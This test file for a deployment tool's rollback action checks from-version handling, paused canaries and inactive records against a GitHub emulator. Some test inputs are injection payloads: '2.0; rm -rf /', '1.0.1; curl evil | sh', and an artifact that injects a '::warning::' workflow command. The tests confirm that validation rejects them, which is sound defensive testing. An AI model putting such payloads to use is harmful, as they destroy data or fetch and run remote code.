// rollback's failure paths through its bundle, against GitHub's records: from-version (result
// not-live), a rollback is never rolled back, a paused canary is never rolled back, and an
// inactive healthy record is watched, not rolled back.
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startGitHubEmulator, type DeploymentSeed, type GitHubEmulator } from '../helpers/github-emulator.js';
import { runAction } from '../helpers/run-action.js';

let emu: GitHubEmulator;
let dir: string;
let app: Server;
let appUrl: string;
beforeAll(async () => {
  emu = await startGitHubEmulator();
  dir = mkdtempSync(join(tmpdir(), 'shipline-rb-paths-'));
  app = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/plain' }).end('ok'));
  await new Promise<void>((r) => app.listen(0, '127.0.0.1', r));
  appUrl = `http://127.0.0.1:${(app.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await emu.close();
  await new Promise((r) => app.close(r));
  rmSync(dir, { recursive: true, force: true });
});
beforeEach(() => emu.reset());

let n = 0;
let minute = 0;
beforeEach(() => (minute = 0));
/** Seeds production oldest first, one minute apart (across calls); returns the ids. */
function seed(...seeds: Omit<DeploymentSeed, 'environment' | 'created_at'>[]): number[] {
  const start = Date.now() - 3_600_000;
  return seeds.map(
    (s) =>
      emu.seedDeployment({
        environment: 'production',
        sha: (++n).toString(16).padStart(40, 'b'),
        created_at: new Date(start + minute++ * 60_000).toISOString(),
        ...s,
      }).id,
  );
}
const deployed = (version: string, ...statuses: DeploymentSeed['statuses'] & object) => ({
  payload: { version, artifact: `shop:${version}`, by: 'deploy' },
  statuses,
});

async function rollback(inputs: Record<string, string>) {
  const ran = join(dir, `ran-${++n}`);
  const before = emu.requests.filter((r) => r.method === 'POST' && r.path.startsWith('/repos/')).length;
  const r = await runAction('rollback', {
    inputs: { 'github-token': emu.token, environment: 'production', 'deploy-command': `echo "$SHIPLINE_VERSION" > "${ran}"`, ...inputs },
    env: { GITHUB_API_URL: emu.url, SHIPLINE_PRINT_SUMMARY: 'false' },
  });
  const writes = emu.requests.filter((x) => x.method === 'POST' && x.path.startsWith('/repos/')).length - before;
  return { ...r, ran: existsSync(ran), writes };
}

describe('from-version: nothing changes when the environment is not on it', () => {
  it('the release never got there: result not-live, exit 0, no record, no command', async () => {
    seed(deployed('1.0.0', 'success', 'inactive'), deployed('1.1.0', 'success'));
    const r = await rollback({ 'from-version': '2.0.0' });
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs).toMatchObject({ result: 'not-live', version: '1.1.0', 'from-version': '' });
    expect([r.ran, r.writes]).toEqual([false, 0]);
    expect(r.stdout).toContain('Nothing rolled back: production is not on 2.0.0: its newest deployment is 1.1.0');
    expect(r.summary).toContain('Nothing rolled back in production');
  });

  it('the canary already aborted: not-live', async () => {
    const [, canary] = seed(deployed('1.0.0', 'success'), {
      payload: { version: '2.0.0', by: 'canary' },
      statuses: ['in_progress', { state: 'failure', description: 'canary aborted on error-rate: 9%' }],
    });
    const r = await rollback({ 'from-version': '2.0.0' });
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs.result).toBe('not-live');
    expect(r.stdout).toContain(`the canary of 2.0.0 already aborted (deployment ${canary}: canary aborted on error-rate: 9%)`);
    expect([r.ran, r.writes]).toEqual([false, 0]);
  });

  it('someone rolled back first: not-live, and the rollback is not rolled back', async () => {
    const [, bad] = seed(deployed('1.0.0', 'success', 'inactive'), deployed('2.0.0', 'success', 'failure'));
    seed({
      payload: { version: '1.0.0', by: 'rollback', rollbackOf: String(bad), reason: 'errors' },
      statuses: ['in_progress', 'success'],
    });
    const r = await rollback({ 'from-version': '2.0.0' });
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs.result).toBe('not-live');
    expect(r.stdout).toMatch(
      /production was already rolled back to 1\.0\.0 by deployment \d+: someone rolled back first, and a rollback is never itself rolled back/,
    );
    expect([r.ran, r.writes]).toEqual([false, 0]);
  });

  it('the environment is on it: rolls back', async () => {
    seed(deployed('1.0.0', 'success', 'inactive'), deployed('2.0.0', 'success'));
    const r = await rollback({ 'from-version': '2.0.0' });
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs).toMatchObject({ result: 'success', version: '1.0.0', 'from-version': '2.0.0' });
    expect(r.ran).toBe(true);
  });

  it('refuses a from-version that is not a version, before anything', async () => {
    seed(deployed('1.0.0', 'success'));
    const r = await rollback({ 'from-version': '2.0; rm -rf /' });
    expect(r.code).toBe(1);
    expect(r.errors).toHaveLength(1);
    expect(r.errors[0]).toMatch(/^::error::Input "from-version"/);
    expect([r.ran, r.writes]).toEqual([false, 0]);
  });
});

describe('a rollback is never itself rolled back', () => {
  it("a rollback's record that GitHub's own job deployment made inactive is still the rollback: nothing to do", async () => {
    const [, bad] = seed(deployed('1.0.0', 'success', 'inactive'), deployed('2.0.0', 'success', 'failure'));
    const [rb] = seed({
      payload: { version: '1.0.0', by: 'rollback', rollbackOf: String(bad), reason: 'errors' },
      statuses: ['success', 'inactive'],
    });
    // GitHub's deployment for the job's `environment:` (no shipline payload)
    seed({ payload: '', statuses: ['success'] });
    const r = await rollback({});
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs).toMatchObject({ result: 'already-rolled-back', version: '1.0.0', 'deployment-id': String(rb) });
    expect([r.ran, r.writes]).toEqual([false, 0]);
  });
});

describe('a paused canary is paused: not a failure, not something to roll back', () => {
  const paused = {
    payload: { version: '2.0.0', by: 'canary', steps: '10,pause,100' },
    statuses: ['in_progress', { state: 'in_progress', description: 'shipline: paused at 10%; resume to go on to 100%, or abort' }],
  } as const;

  it('verify mode (bake) does not roll it back: not-live, exit 0, says so', async () => {
    seed(deployed('1.0.0', 'success'), paused as unknown as Omit<DeploymentSeed, 'environment'>);
    const r = await rollback({ bake: '1s' });
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs.result).toBe('not-live');
    expect(r.outputs.trigger).toBe('');
    expect(r.stdout).toContain('a paused canary is not a failure and is not rolled back; promote or abort it');
    expect([r.ran, r.writes]).toEqual([false, 0]);
  });

  it('a manual rollback from its version does not roll it back either', async () => {
    seed(deployed('1.0.0', 'success'), paused as unknown as Omit<DeploymentSeed, 'environment'>);
    for (const inputs of [{ 'from-version': '2.0.0' }, {}] as Record<string, string>[]) {
      const r = await rollback(inputs);
      expect(r.code, r.stdout).toBe(0);
      expect(r.outputs.result).toBe('not-live');
      expect([r.ran, r.writes]).toEqual([false, 0]);
    }
  });
});

describe('verify mode reads an inactive record as healthy', () => {
  it('watches a good deployment that GitHub made inactive, and does not roll it back', async () => {
    seed(deployed('1.0.0', 'success', 'inactive'), { ...deployed('2.0.0', 'success', 'inactive') });
    seed({ payload: '', statuses: ['success'] });
    const r = await rollback({ bake: '1s', 'check-interval': '200ms', url: appUrl });
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs).toMatchObject({ result: 'healthy', version: '2.0.0', trigger: '' });
    expect([r.ran, r.writes]).toEqual([false, 0]);
  });
});

describe('what is read from a record is checked like an input before it is used', () => {
  it('never goes back to a record whose version or artifact no input would accept', async () => {
    seed(
      deployed('0.9.0', 'success', 'inactive'),
      { payload: { version: '1.0.0', artifact: 'shop:1\n::warning::injected', by: 'deploy' }, statuses: ['success', 'inactive'] },
      { payload: { version: '1.0.1; curl evil | sh', by: 'deploy' }, statuses: ['success', 'inactive'] },
      deployed('2.0.0', 'success'),
    );
    const r = await rollback({});
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs).toMatchObject({ result: 'success', version: '0.9.0', 'from-version': '2.0.0' });
    expect(r.stdout).not.toMatch(/^::warning::injected/m);
    expect(r.summary).toContain('cannot be used');
  });
});
